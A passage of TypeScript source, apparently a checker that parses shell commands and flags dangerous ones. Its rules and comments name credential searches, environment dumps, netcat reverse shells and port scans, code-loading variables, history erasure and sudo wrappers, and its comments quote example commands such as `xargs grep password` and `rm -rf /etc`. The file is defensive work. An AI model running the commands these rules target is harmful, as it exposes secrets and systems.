  // find's own options come before its start paths; -D takes its debug options as the next word.
  while (/^-(H|P|O\d*|D)$/.test(words[k]?.text ?? '')) k += words[k]!.text === '-D' ? 2 : 1;
  const starts: Word[] = [];
  while (k < words.length && !/^[-(!]/.test(words[k]!.text)) starts.push(words[k++]!);
  return starts.length ? starts : [word('.')];
}

/**
 * A find that only lists paths under the workspace (`find . -type d -name target -print0`): it starts
 * inside it, follows no links out of it, and runs nothing itself.
 */
function findsInWorkspace(feeder: SimpleCommand, st: State): boolean {
  return findStarts(feeder)?.every((w) => !w.expands && ['inside', 'all'].includes(classify(w, st).cls)) ?? false;
}

/**
 * A search for a credential's word over the files a `find` before it lists, handed over by xargs
 * (`find /var/log -name '*.log' | xargs grep password`): a recursive search of where find looked.
 */
function searchOfFoundFiles(words: Word[], feeder: SimpleCommand, st: State): void {
  const prog = base(words[0]);
  if (!SEARCHERS.test(prog)) return;
  const pattern = searchPattern(words);
  if (!pattern || !CREDENTIAL_FILTER.test(pattern.text)) return;
  const finder = withoutKeywords(feeder.words);
  if (base(finder[0]) !== 'find') return;
  for (const start of finder.slice(1)) {
    if (/^[-(!]/.test(start.text)) break;
    const c = classify(start, st);
    if (c.cls === 'root' || c.cls === 'home' || c.cls === 'outside')
      return danger(st, `searches the files find lists in ${start.text} (${PATH_WORDS[c.cls]}) for credentials (xargs ${prog})`);
  }
}

/** Searchers whose first operand, or -e's value, is the pattern. */
const SEARCHERS = /^(grep|egrep|fgrep|rg|ag|ack|zgrep)$/;

/** The pattern word of the search the words run (directly or through xargs, env, …), if any. */
function searchPattern(words: Word[]): Word | undefined {
  const k = words.findIndex((w) => SEARCHERS.test(base(w)));
  if (k < 0) return undefined;
  const rest = words.slice(k + 1);
  const e = rest.findIndex((w) => w.text === '-e' || w.text === '--regexp');
  if (e >= 0) return rest[e + 1];
  return rest.find((w) => !w.text.startsWith('-'));
}

/** Values of these options of version-control tools are prose (commit messages, titles), not paths or code. */
const VCS = new Set(['git', 'gh', 'hg', 'jj', 'svn', 'glab']);
const PROSE_OPTION = /^(-m|--message|--body|--title|--subject|--description|-t)$/;

/** Judge one payload of a program: a command text, a program fed data, a command's words, or code out of sight. */
function judgePayload(p: Payload, st: State): void {
  if (p.kind === 'danger') return danger(st, p.reason);
  if (p.kind === 'opaque') return danger(st, `runs code through ${p.via}, which the checker cannot read`);
  if (p.kind === 'writes') return checkWriteTarget(p.target, st, `writes (${p.via}) to`);
  if (p.kind === 'shell') return analyzeNested(p.text, st, true);
  if (p.kind === 'argv' && p.container) {
    // A container's files are its own: judged as if its whole file system were the workspace, what
    // it reaches past itself (the network, the mounts its options gave it) is judged as anywhere.
    const inside: State = { ...st, ws: '/' };
    judgeWords(p.words, inside, p.via, p.appends === true, p.scriptName === true);
    // A whole top-level directory deleted there (`rm -rf /etc`, `sh -c 'rm -rf /srv'`) is a running
    // container's state, or a mount of this machine's, as often as a throwaway's.
    const text = p.words.map((w) => w.text).join(' ');
    if (/(^|[^\w/.-])rm\s+(-\w*[rR]\w*\s+|--recursive\s+)+\/[\w.-]+\/?(?=$|[\s;&|'"`)])/.test(text))
      danger(st, `recursively deletes a whole top-level directory inside a container (${p.via})`);
    st.repeatable &&= inside.repeatable;
    st.downloads ||= inside.downloads;
    return;
  }
  if (p.kind === 'argv') return judgeWords(p.words, st, p.via, p.appends === true, p.scriptName === true);
  let pipelines: Pipeline[];
  try {
    pipelines = parseShell(p.text);
  } catch {
    return danger(st, `runs a program through ${p.via} that the checker cannot read (${p.text})`);
  }
  const first = pipelines[0]?.commands[0];
  if (!first) return;
  judgeWords(first.words, st, p.via, true);
}

/**
 * A command given as words (find's `-exec`, a runner's operands, a program option): judged as a
 * command. When the program adds file names or data (`appends`), a shell or interpreter whose script
 * is that addition runs it as code.
 */
function judgeWords(words: Word[], st: State, via: string, appends: boolean, scriptName = false): void {
  const inner = unwrap(words, { ...st, reasons: [] });
  const prog = base(inner[0]);
  const args = inner.slice(1);
  const script = operands(args)[0]?.text;
  if (
    appends &&
    (SHELLS.has(prog) || INTERPRETERS.has(prog)) &&
    !hasInlineCode(prog, args) &&
    !args.some((a) => a.text === '-m') &&
    (script === undefined || script.endsWith(FOUND))
  )
    danger(st, `runs the files or data ${via} hands it as code (${prog})`);
  const saved = st.payload;
  const savedScript = st.projectScript;
  st.payload = true;
  if (scriptName && !inner[0]?.text.includes('/') && ruleFor(prog) === unknownProgram) st.projectScript = prog;
  analyzeCommand({ words, redirects: [] }, st, []);
  st.payload = saved;
  st.projectScript = savedScript;
}

/** The word that gives a shell or interpreter its code inline (`sh -c`, `bash -lc`, `python -c`, `node -e`), if any. */
function inlineCodeFlag(prog: string, args: Word[]): Word | undefined {
  if (SHELLS.has(prog)) return args.find((a) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(a.text));
  const inline = Object.hasOwn(INLINE_CODE, prog) ? INLINE_CODE[prog] : undefined;
  return inline && interpreterOwnArgs(prog, args).find((a) => inline.test(a.text));
}

const hasInlineCode = (prog: string, args: Word[]) => inlineCodeFlag(prog, args) !== undefined;

/** Inline code that xargs fills in or leaves out (`xargs -I{} bash -c {}`, `xargs bash -c`): the code is its input. */
function inlineCodeFromInput(prog: string, args: Word[]): boolean {
  const flag = inlineCodeFlag(prog, args);
  const code = flag && args[args.indexOf(flag) + 1];
  return flag !== undefined && (code === undefined || /^\{\}$|^[A-Z]+$/.test(code.text));
}

/** The dynamic loader's variables whose value is a list of libraries to load into every program run. */
const LIBRARY_LOADERS = /^(LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES)$/;
/**
 * Whether every library named is a path inside the workspace: the project's own code, loaded as
 * running `./build/app` runs it. A bare name is looked up in the system's library path.
 */
function ownLibraries(value: string, st: State): boolean {
  const libs = value.split(/[:\s]+/).filter(Boolean);
  return libs.length > 0 && libs.every((l) => l.includes('/') && classify(l, st).cls === 'inside');
}

/** Assignments (`PAGER=… git log`, `env GIT_SSH_COMMAND=… git fetch`, `export LESSOPEN=…`) whose value a program runs. */
/** A literal program name (`pip`, `python3`, `./venv/bin/pytest`), as a variable may hold one. */
const PROGRAM_NAME = /^[\w./+-]+$/;

/** Assignments standing alone (`PIP=pip`) of a literal program name, kept for the commands after them in this text. */
function rememberPrograms(assignments: Word[], st: State): void {
  for (const w of assignments) {
    const m = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(w.text);
    if (!m) continue;
    // Set twice to different names (the branches of an `if`), which one runs depends on the run: none is kept.
    const earlier = st.programs?.get(m[1]!);
    const literal = !w.expands && PROGRAM_NAME.test(m[2]!) && (earlier === undefined || earlier === m[2]);
    (st.programs ??= new Map()).set(m[1]!, literal ? m[2]! : '');
  }
}

/**
 * A release script's own function named for the git command it wraps (`git_push "origin" release`,
 * `git_switch release`): it runs that command, and is judged as it is.
 */
function helperNamedForGit(words: Word[]): Word[] {
  const verb = /^git_([a-z]+)$/.exec(words[0]?.text ?? '')?.[1];
  return verb && !RULES.has(words[0]!.text) ? [{ ...words[0]!, text: 'git' }, { ...words[0]!, text: verb }, ...words.slice(1)] : words;
}

/** A Makefile's variable for one target's tool (`$(CC_x64)`, `$(STRIP_x86)`, `$(CXX_aarch64)`), the tool's name captured. */
const TARGET_TOOL_VARIABLE =
  /^\$\(([A-Z][A-Z0-9]*)_(x64|x86|x86_64|amd64|arm64|aarch64|armhf|arm|i[3-6]86|riscv64|win32|win64|X64|X86|X86_64|AMD64|ARM64|AARCH64)\)$/;
/** Make variables whose names say only that they hold some command, not which (`$(CMD) $(ARGS)`, `$(BINARY)`). */
const GENERIC_COMMAND_NAME = /^(CMD|COMMAND|EXEC|RUN|RUNNER|BIN|BINARY|PROG|PROGRAM|TOOL|APP|TARGET|ARGS|SCRIPT|ENVVARS|LAUNCHER|WRAPPER)$/;
/**
 * A Makefile's conventional names for the toolchain's commands (`$(PYTHON) -m black`, `$(GOBUILD) -o bin`,
 * `$(SPHINXBUILD) -M html`), and any `$(NAME)` of one word that names a program (`$(SHELLCHECK)`, `$(EASK)`):
 * set at the Makefile's top to that program, and judged as it is. Written only in make's `$(NAME)` form:
 * a shell variable of the same name is the environment's to choose.
 */
const MAKE_TOOL_VARIABLES: Readonly<Record<string, string>> = {
  PYTHON: 'python',
  PYTHON3: 'python3',
  PIP: 'pip',
  GOCMD: 'go',
  GOEXEC: 'go',
  GOBUILD: 'go build',
  GOTEST: 'go test',
  GOFMT: 'gofmt',
  SPHINXBUILD: 'sphinx-build',
  NPM: 'npm',
  CARGO: 'cargo',
  DOCKER: 'docker',
  KUBECTL: 'kubectl',
  PYTEST: 'pytest',
  GIT: 'git',
};

/**
 * The program a Makefile's `$(NAME)` stands for: a conventional tool variable's, a one-word name that names
 * a program (`$(SHELLCHECK)`), GNU's `$(INSTALL_DATA)` and kin (`install` with a mode), a program's path kept
 * under its name (`$(PIP_PATH)`), or a tool's name of
 * two or three words (`$(CONTROLLER_GEN)`, `$(ARM_OBJDUMP)`, kubebuilder's and the cross toolchains' habit)
 * unless a word says only that it holds some command or a place. Undefined when the name says none.
 */
function makeToolProgram(recipe: string): string | undefined {
  const conventional = MAKE_TOOL_VARIABLES[recipe];
  if (conventional) return conventional;
  if (!GENERIC_COMMAND_NAME.test(recipe) && (RULES.has(recipe.toLowerCase()) || /^[A-Z]{3,12}$/.test(recipe))) return recipe.toLowerCase();
  if (/^INSTALL_(PROGRAM|DATA|SCRIPT|STRIP|LIB)$/.test(recipe)) return 'install';
  // A program's path kept under its name (`$(PIP_PATH)`, `$(SYS_PYTHON_PATH)`, `$(NODE_BIN)`) is that program.
  const pathOf = /^(?:(?:SYS|HOST|LOCAL|VENV)_)?([A-Z][A-Z0-9]*)_(?:PATH|BIN|EXE)$/.exec(recipe)?.[1];
  const named = pathOf && (MAKE_TOOL_VARIABLES[pathOf] ?? (RULES.has(pathOf.toLowerCase()) ? pathOf.toLowerCase() : undefined));
  if (named) return named;
  const words = recipe.split('_');
  if (/^[A-Z][A-Z0-9]*(_[A-Z][A-Z0-9]*){1,2}$/.test(recipe) && !words.some((part) => GENERIC_COMMAND_NAME.test(part) || /^(DIR|PATH|FILE)$/.test(part)))
    return words.join('-').toLowerCase();
  return undefined;
}

/** The program a command's first word names when it is a variable this text set to a literal program name. */
function namedProgram(w: Word, st: State): Word[] {
  const inWorkspace = workspaceVariablePath(w.text, st);
  if (inWorkspace !== undefined) return [{ ...w, text: inWorkspace, expands: false }];
  // A toolchain installer's program under the home (`"$HOME/.ghcup/bin/ghcup"`): only the home is
  // computed, and the place is judged as `~/.ghcup/bin/ghcup` is.
  // A Makefile writes the home `$(HOME)` (`$(HOME)/go/bin/gopherjs`).
  const home = /^\$(?:\{?HOME\}?|\(HOME\))(\/[^$`"\\]+)$/.exec(w.text);
  if (home && nestsOnlyVariable(w, 'HOME') && !st.setsHome && isUserTool(`~${home[1]}`)) return [{ ...w, text: `~${home[1]}`, expands: false }];
  // pipx's own home (`$PIPX_HOME/venvs/app/bin/pylint`) holds its applications' environments, as its default in the home does.
  const pipx = /^\$\{?PIPX_HOME\}?(\/venvs\/[\w.-]+\/bin\/[\w.+-]+)$/.exec(w.text);
  if (pipx && nestsOnlyVariable(w, 'PIPX_HOME')) return [{ ...w, text: `~/.local/share/pipx${pipx[1]}`, expands: false }];
  // A program of the workspace's whose name a CI workflow's matrix or inputs choose (`./dist/${{ matrix.artifact_name }}`,
  // `build-scripts/${{ matrix.script }}`): a path under the workspace, only its last name filled in.
  const chosen = /^((?:\.\/)?(?:[\w.-]+\/)*)\$\{\{\s*(?:matrix|env|inputs)\.[\w.-]+\s*\}\}([\w.-]*)$/.exec(w.text);
  if (chosen && chosen[1] !== '' && !chosen[1]!.startsWith('..') && w.nested.length === 0)
    return [{ ...w, text: `${chosen[1]}ci-chosen${chosen[2]}`, expands: false }];
  // A toolchain at the version a CI workflow's matrix lists (`gcc-${{ matrix.gcc-version }}`, `clang-${{ matrix.llvm }}`):
  // the workflow names each value, and the program is the one its stem names.
  const versioned = /^([A-Za-z][\w+]*)-?\$\{\{\s*(?:matrix|inputs)\.[\w.-]+\s*\}\}$/.exec(w.text);
  if (versioned && w.nested.length === 0) return [{ ...w, text: versioned[1]!, expands: false }];
  // Go's programs by the path Go prints (`$(go env GOPATH)/bin/golangci-lint`, its backquoted form), or by
  // the variable that holds it (`$(GOPATH)/bin/packr2`, `$GOPATH/bin/shfmt`): `go install`'s place in the home.
  const goBin = /^"?(?:\$\(go env GOPATH\)|`go env GOPATH`)\/bin\/([\w.+-]+)"?$/.exec(w.text);
  if (goBin && w.nested.length === 1 && !st.setsHome) return [{ ...w, text: `~/go/bin/${goBin[1]}`, expands: false }];
  const goPathBin = /^"?\$(?:\{GOPATH\}|\(GOPATH\)|GOPATH)\/bin\/([\w.+-]+)"?$/.exec(w.text);
  if (goPathBin && nestsOnlyVariable(w, 'GOPATH') && !st.setsHome) return [{ ...w, text: `~/go/bin/${goPathBin[1]}`, expands: false }];
  // A program of a fixed name in a directory the Makefile holds in a variable (`$(CLONE)/test/run.sh`,
  // `$(VENV)/bin/python`), or the CI runner in its action's (`"$GITHUB_ACTION_PATH/../check.sh"`): only where it lies
  // is computed, by text the recipe or the runner sets, and it is judged as the program its name says; the home's,
  // Go's path, the kernel's tree and the temporary directories' programs are not the project's, and stay computed.
  // A shell variable's directory (`"$SCRIPT_DIR"/publish.sh`, `$BIN_DIR/tool`) is the caller's environment's: an
  // agent's shell that never set it runs whatever that directory holds, from the root when it is empty.
  const inDirectory = /^(?:\.\.\/)?\$(?:\{([A-Za-z_]\w*)\}|\(([A-Z_][A-Z0-9_]*)\)|([A-Za-z_]\w*))\/(?:[\w.-]+\/)*([\w.+-]*[A-Za-z][\w.+-]*)$/.exec(w.text);
  const directory = inDirectory && (inDirectory[1] ?? inDirectory[2] ?? inDirectory[3])!;
  const setByRecipeOrRunner = inDirectory?.[2] !== undefined || directory === 'GITHUB_ACTION_PATH';
  if (inDirectory && directory && setByRecipeOrRunner && nestsOnlyVariable(w, inDirectory[2]) && !/HOME|TMP|TEMP|GOPATH|KERNEL/i.test(directory))
    return [{ ...w, text: inDirectory[4]!, expands: false }];
  // A Makefile's recipe writes its variables `$(MAKE)` and `$(GO)`, as the shell writes `$MAKE`; a cross
  // build's names one per target (`$(CC_x64)`, `$(STRIP_arm64)`), each the program its first word names.
  const recipe = MAKE_VARIABLE.exec(w.text)?.[1] ?? TARGET_TOOL_VARIABLE.exec(w.text)?.[1];
  const name = /^\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?$/.exec(w.text)?.[1] ?? recipe;
  const value = name && (st.programs?.get(name) ?? (st.setsConventionalVariable ? undefined : TOOLCHAIN_VARIABLES[name]));
  if (value) return [{ ...w, text: value, expands: false }];
  const tool = recipe === undefined ? undefined : makeToolProgram(recipe);
  if (tool) return tool.split(' ').map((text) => ({ ...w, text, expands: false }));
  // A toolchain's prefix before a fixed name (`$(CROSS_COMPILE)strip`, `${PREFIX}mypy`): the program is that name's.
  const prefixed = /^\$(?:\(([A-Z_][A-Z0-9_]*)\)|\{([A-Za-z_]\w*)\})([a-z][\w+.-]*)$/.exec(w.text);
  const prefix = prefixed && (prefixed[1] ?? prefixed[2])!;
  if (prefixed && prefix && /PREFIX|CROSS|TOOLCHAIN/.test(prefix) && nestsOnlyVariable(w, prefixed[1])) return [{ ...w, text: prefixed[3]!, expands: false }];
  return [w];
}

/**
 * Interpreter options taken from the environment (RUBYOPT, PERL5OPT) load code through `-r`/`-M`;
 * a value of warning switches alone (`RUBYOPT="-W0"`, `-W:no-deprecated`, `PERL5OPT=-w`) only
 * changes what the interpreter reports.
 */
const INTERPRETER_OPTION_VARIABLES = /^(RUBYOPT|PERL5OPT)$/;
/**
 * An interpreter's switches that load nothing from outside the project: warnings, Ruby's frozen string
 * literals, and a load path in the workspace (`RUBYOPT=-Ibundler/lib`), which runs the project's own code.
 */
const harmlessInterpreterSwitches = (value: string, st: State) => {
  const words = value.split(/\s+/).filter(Boolean);
  return (
    words.length > 0 &&
    words.every(
      (v) =>
        /^-(w|W[0-2]?|W:[a-z-]+|v)$|^--(enable|disable|debug)-frozen-string-literal$/.test(v) ||
        (/^-I[^\s$`]+$/.test(v) && classify(v.slice(2), st).cls === 'inside'),
    )
  );
};

/** The shell's prompts, which it expands as it shows them. */
const PROMPT_VARIABLES = /^PS[0-4]$/;
/** The variables a build takes its compilers and linker from. */
const COMPILER_VARIABLES = /^(CC|CXX|CPP|LD|HOSTCC|HOSTCXX|CC_FOR_BUILD|CXX_FOR_BUILD)$/;

/** The commands a prompt's value substitutes, judged as commands; a value that cannot be read is dangerous. */
function judgePromptValue(name: string, value: string, st: State): void {
  const text = `: ${value}`;
  try {
    parseShell(text);
  } catch (e) {
    if (!(e instanceof ShellParseError)) throw e;
    return danger(st, `sets ${name} to commands the shell runs as it shows the prompt, which the checker cannot read`);
  }
  analyzeNested(text, st, true);
}

function checkAssignments(words: Word[], st: State, definesAliases = false): void {
  const keys = new Map<string, string>();
  const values = new Map<string, Word>();
  for (const w of words) {
    const m = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(w.text);
    if (!m) continue;
    const [, name, value] = m as unknown as [string, string, string];
    if (
      CODE_LOADING_VARIABLES.test(name) &&
      !(LIBRARY_LOADERS.test(name) && !w.expands && ownLibraries(value, st)) &&
      !(INTERPRETER_OPTION_VARIABLES.test(name) && !w.expands && harmlessInterpreterSwitches(value, st)) &&
      // ENV names the start-up file an interactive sh reads; a plain word (`make ENV=ctf`) names a deployment, not a file.
      !(name === 'ENV' && !w.expands && /^[\w-]+$/.test(value))
    )
      danger(st, `sets ${name}, which loads code into the programs run (${w.text})`);
    else if (COMMAND_VARIABLES.test(name)) {
      if (w.expands && !w.nested.length) danger(st, `sets ${name} from a variable; the program it runs cannot be seen`);
      else analyzeNested(value.replace(/^\|+/, ''), st, true);
    }
    // A wrapper the build is told to run its compiler through (`make CC="distcc gcc"`) runs for every file it
    // compiles: one a table here names is judged as if run (ccache in front of a compiler stays a compiler).
    if (COMPILER_VARIABLES.test(name) && !w.expands) {
      const [wrapper = '', ...compiler] = value.trim().split(/\s+/);
      if (compiler.length > 0 && RULES.has(base(word(wrapper)))) analyzeNested(value, st, true);
    }
    // A prompt's value is expanded each time it is shown (PS4 before every traced command, with
    // `SHELLOPTS=xtrace` or `bash -x`): its command substitutions run then, and are judged as commands.
    if (PROMPT_VARIABLES.test(name) && /\$\(|`/.test(value)) judgePromptValue(name, value, st);
    // The shell's history sent nowhere or cut to nothing: what the run did leaves no record.
    if (/^HIST(FILE|SIZE|FILESIZE)$/.test(name)) danger(st, `changes the shell history's file or size (${w.text})`);
    // The libraries' search path led through a shared temporary directory (`LD_LIBRARY_PATH=/tmp ./app`):
    // a library any user planted there is loaded in place of the system's.
    if (/^(LD|DYLD)_LIBRARY_PATH$/.test(name) && value.split(':').some((l) => TEMP_DIRS.test(l) || l.startsWith('/dev/shm')))
      danger(st, `loads libraries from a shared temporary directory, where anyone may plant one (${w.text})`);
    // A variable a Makefile or script runs its commands through, set to sudo or to a program under it
    // (`SUDO=sudo make install`, `CONTAINER_ENGINE='sudo podman' make`, `PODMAN='sudo podman --events-backend=none'`):
    // what it starts runs as root. Words after the program that are not options make it a message (`MSG="sudo is needed"`).
    // An alias's body (`alias newnym='sudo service tor restart'`) runs only when the alias is used, and is judged then.
    if (/^(sudo|doas|pkexec)(\s+(-\S+\s+)*[\w./-]+(\s+-\S+)*)?$/.test(value) && !w.expands && !definesAliases)
      danger(st, `sets ${name} to ${value}, so the commands it starts run as root (${w.text})`);
    // A build told by its environment to push or publish what it makes (`DOCKER_PUSH=true make image`).
    if (/(^|_)(PUSH|PUBLISH|DEPLOY|UPLOAD)(_|$)/.test(name) && !/^(SKIP|NO|DISABLE|DRY)_/.test(name) && /^(true|1|yes|on)$/i.test(value))
      danger(st, `tells the build to push, publish or deploy what it makes (${w.text})`);
    // ssh's agent socket in the shared temporary directory (`/tmp/ssh-XXXX/agent.N`), found at run time or
    // copied from a listing: another session's agent, whose keys then sign this one's logins. An agent the
    // command starts itself (`eval "$(ssh-agent)"`) sets the variable without naming the path.
    if (name === 'SSH_AUTH_SOCK' && TEMP_DIRS.test(value) && (w.expands || /[*?[]/.test(value) || /\/ssh-[\w.]+\/agent\.\d+$/.test(value)))
      danger(st, `points ssh at an agent socket found in the temporary directory, another session's keys (${w.text})`);
    const idx = /^GIT_CONFIG_(KEY|VALUE)_(\d+)$/.exec(name);
    if (idx) idx[1] === 'KEY' ? keys.set(idx[2]!, value) : values.set(idx[2]!, w);
    const why = indexSetting(name, value);
    if (why) danger(st, why);
    // A program's data, state or log directory set to a system directory (`SOFT_SERVE_DATA_PATH=/var/lib/soft-serve`):
    // the program it starts creates and writes its files there, outside the workspace.
    if (DATA_PLACE_VARIABLE.test(name) && SYSTEM_DATA_DIR.test(value))
      danger(st, `sets a program's data directory to a system directory, where it writes outside the workspace (${w.text})`);
  }
  for (const [n, key] of keys) {
    const v = values.get(n);
    for (const p of gitSettingPayloads(key, v && !v.expands ? v.text.slice(v.text.indexOf('=') + 1) : undefined, `GIT_CONFIG_KEY_${n}`)) judgePayload(p, st);
  }
}

/** A sed script that is one substitution and writes or runs nothing (no `w` or `e` flag). */
const SED_SUBSTITUTION = /^s([^\w\s\\])(?:\\.|(?!\1)[^\\])*\1(?:\\.|(?!\1)[^\\])*\1[gipIM\d]*$/;

/** A script saved from Exploit-DB under its entry's number (`49933.py`, `./50383.sh`); a year (`2024.py`) is no entry. */
const EXPLOIT_DB_SCRIPT = /(^|\/)(?!(19|20)\d\d\.)\d{4,5}\.(py|sh|rb|pl|php)$/;

/** The shell's arithmetic command, one word from the lexer. */
const ARITHMETIC_COMMAND = /^\(\([\s\S]*\)\)$/;

/** This machine by name or loopback address, where a raw session is a local check (a CI job's wait for its database). */
const LOCAL_HOST = /^(localhost|127(\.\d+){3}|::1|\[::1\]|0\.0\.0\.0)$/;
const NETWORK_SENDERS = new Set(['nc', 'ncat', 'netcat', 'telnet', 'socat', 'ssh', 'openssl', 'curl', 'wget', 'scp', 'sftp', 'ftp', 'tftp']);
const ENCODERS = new Set(['base64', 'base32', 'xxd', 'od', 'hexdump', 'gzip', 'bzip2', 'xz', 'zstd', 'openssl', 'gpg', 'uuencode']);
const LISTS_ENVIRONMENT = (prog: string, args: Word[]) =>
  (prog === 'env' && args.length === 0) ||
  // PowerShell's environment drive listed (`gci env:`, `dir env:*`, `Get-ChildItem Env:\`).
  (/^(Get-ChildItem|gci|dir|ls|Get-Item|gi)$/i.test(prog) && args.length === 1 && /^env:[\\/]?\*?$/i.test(args[0]!.text)) ||
  (prog === 'printenv' && args.length === 0) ||
  ((prog === 'export' || prog === 'declare') && args.some((a) => /^-[a-zA-Z]*[px]/.test(a.text))) ||
  (prog === 'set' && args.length === 0);

/** The programs that list the environment, by the last part of a word (`/usr/bin/env`, `gci`). */
const LISTING_PROGRAM = /(^|\/)(env|printenv|set|export|declare|gci|Get-ChildItem|dir|ls|Get-Item|gi)$/i;
/** What only orders, pages or trims what it is given (`env | sort`, `gci env: | Sort-Object Name`): every line it gets is shown. */
const SHOWS_ALL_IT_GETS = /^(sort|uniq|less|more|cat|column|Sort-Object|Format-Table|Format-List|Out-Host|Out-String|ft|fl)$/i;
/**
 * The whole environment printed (`env`, `printenv`, `env | sort`, `gci env:`): every credential a
 * variable holds is in the output; a filter for other names (`env | grep JAVA`) is judged as one.
 */
function wholeEnvironmentShown(commands: SimpleCommand[], st: State): void {
  // Only what orders or pages its input may follow the listing; most lines name no listing program at all.
  let k = commands.length - 1;
  while (k > 0 && SHOWS_ALL_IT_GETS.test(base(commands[k]!.words[0]))) k--;
  const raw = commands[k]!.words;
  if (!raw.some((a) => LISTING_PROGRAM.test(a.text))) return;
  const w = unwrap(raw, { ...st, reasons: [] });
  // Only the listing itself: env asked about itself (`env --help`) or told to change something, and a
  // variable named to declare or export (`declare -p destdir`), print no whole environment.
  const whole =
    LISTS_ENVIRONMENT(base(w[0]), w.slice(1)) && w.slice(1).every((a) => /^(-[px]+|env:.*)$/i.test(a.text)) && !raw.some((a) => /^--|=/.test(a.text));
  if (whole) danger(st, `prints every environment variable, credentials among them (${w.map((a) => a.text).join(' ')})`);
}

/**
 * A cluster's objects printed whole (`kubectl get configmaps -o json`): their data and the containers'
 * environments are in the output, values and all, so a filter for credential words after it reads secrets.
 */
const PRINTS_CLUSTER_VALUES = (prog: string, args: Word[]) =>
  (prog === 'kubectl' || prog === 'oc') &&
  args.some((a) => a.text === 'get') &&
  args.some(
    (a, k) => /^(-o|--output)=?(json|yaml)$|^-o(json|yaml)$/.test(a.text) || (/^(-o|--output)$/.test(a.text) && /^(json|yaml)$/.test(args[k + 1]?.text ?? '')),
  );

/**
 * A container's configuration printed whole (`docker inspect app`), its image's history (the build's
 * arguments and environment in each layer's command), or its environment listed inside it (`docker exec
 * app env`, `docker compose exec db env`): secrets and all are in it.
 */
const CONTAINER_CLIENT_VALUED = /^(-f|--file|-p|--project-name|-u|--user|-w|--workdir|-e|--env|--env-file)$/;
const PRINTS_CONTAINER_CONFIG = (prog: string, args: Word[]) => {
  if (!/^(docker|podman|nerdctl)(-compose)?$/.test(prog)) return false;
  const ops = operands(args, CONTAINER_CLIENT_VALUED).map((a) => a.text);
  const sub = ops[0] === 'compose' ? ops.slice(1) : ops;
  return /^(inspect|history)$/.test(sub[0] ?? '') || (sub[0] === 'exec' && sub.length === 3 && /^(env|printenv)$/.test(sub[2]!));
};

/** Whether a network tool sends what it reads on its input (curl only with `@-` or an upload of `-`; nc not when only probing). */
function sendsInput(prog: string, args: Word[]): boolean {
  // `@-` reads a value from stdin, as `-F name=<-` does for a form field's content.
  if (prog === 'curl') return args.some((a) => /[@<]-$|^-$/.test(a.text));
  if (prog === 'openssl') return args[0]?.text === 's_client';
  if (prog === 'wget') return false;
  // HTTPie and xh send what is redirected or piped into them as the request's body, unless told to ignore it.
  if (/^(http|https|xh|xhs)$/.test(prog)) return !args.some((a) => /^(-I|--ignore-stdin)$/.test(a.text));
  return NETWORK_SENDERS.has(prog) && !args.some((a) => a.text === '-z') && !ownUnixSocket(prog, args);
}

/**
 * netcat on a Unix socket of the temporary directory or the workspace (`echo status | nc -U /tmp/gh-ost.sock`): a
 * session with a program of this run, which reaches no host; the system's sockets (Docker's, the init system's)
 * stay judged as sessions, whose other end acts for root.
 */
const ownUnixSocket = (prog: string, args: Word[]) =>
  /^(nc|ncat|netcat)$/.test(prog) &&
  args.some((a) => /^(-[a-zA-Z]*U|--unixsock)$/.test(a.text)) &&
  operands(args).every(
    (a) => !a.expands && (/^\/tmp\/[\w.-]+$/.test(a.text) || (!a.text.startsWith('/') && !a.text.startsWith('~') && !a.text.includes('..'))),
  );

/** Secrets moved into a pipe: the environment filtered for credentials, or any of it sent to the network or an encoder. */
function checkPipeline(prog: string, args: Word[], st: State, prev: SimpleCommand[], redirects: Redirect[]): void {
  if (prog === 'enable' && args.some((a) => /^-[a-zA-Z]*f/.test(a.text))) danger(st, 'loads a library into the shell (enable -f)');
  if (prog === 'zmodload' && args.some((a) => /^zsh\/net\//.test(a.text))) danger(st, 'loads network access into the shell (zmodload zsh/net)');
  if (prog === 'nc' || prog === 'ncat' || prog === 'netcat') {
    if (args.some((a) => /^(-e|-c|--exec|--sh-exec|--lua-exec)$/.test(a.text) || /^-[a-zA-Z]*e$/.test(a.text)))
      danger(st, `connects a program to the network (${prog} -e)`);
    if (args.some((a) => /^-[a-zA-Z]*l|^--listen$/.test(a.text))) danger(st, `listens for connections from the network (${prog} -l)`);
    // -z probes the ports after the host without sending anything; a range or a list of them is a scan,
    // unless the host is this machine's loopback, whose services are its own.
    const [probedHost, ...ports] = operands(args, /^-[wpsiqxXPTOIV]$/);
    const ownHost = probedHost !== undefined && !probedHost.expands && THIS_MACHINE_ADDRESS.test(probedHost.text);
    if (args.some((a) => /^-[a-zA-Z]*z/.test(a.text)) && !ownHost && (ports.length > 1 || ports.some((p) => p.text.includes('-'))))
      danger(st, `scans the ports of a host (${prog} -z)`);
    // A probe of another machine's port (a literal address, or a placeholder for one) is the first step of
    // mapping it; a CI wait probes this machine or a service by its name.
    const probed = ports.length > 0 ? probedHost?.text : undefined;
    if (args.some((a) => /^-[a-zA-Z]*z/.test(a.text)) && probed !== undefined && otherMachineAddress(probed))
      danger(st, `probes a port of another machine (${prog} -z ${probed})`);
    // Without -z or -l it opens a raw session with the host: what is typed or piped goes to it, and
    // what it answers comes back, as telnet's does. A session with this machine is a local check, and
    // one whose answer goes to a file with nothing sent (`nc host port > file`) is a download.
    const host = operands(args, /^-[wpsiqxXPTOIV]$|^--(proxy|proxy-type|proxy-auth|source|wait|idle-timeout|ssl-\w+)$/)[0]?.text;
    const download = prev.length === 0 && redirects.some((r) => r.op === '>' || r.op === '>>') && !redirects.some((r) => r.op.startsWith('<'));
    if (
      host !== undefined &&
      !download &&
      !args.some((a) => /^-[a-zA-Z]*[zlL]|^--(listen|version|help)$|^-h$/.test(a.text)) &&
      !LOCAL_HOST.test(host) &&
      !ownUnixSocket(prog, args)
    )
      danger(st, `opens a raw session with another host (${prog} ${host})`);
  }
  // socat joining its own input and output to a connection (`socat - TCP:host:port`) is the same raw
  // session; a relay between two addresses (a local port forwarded) is judged as one in operators.ts.
  if (prog === 'socat' && args.some((a) => /^(-|stdio|stdin|stdout|readline)(,|$)/i.test(a.text))) {
    const connection = args.map((a) => /^(?:tcp|tcp4|tcp6|udp|udp4|udp6|sctp|openssl|ssl):([^:,]+)/i.exec(a.text)).find((m) => m !== null);
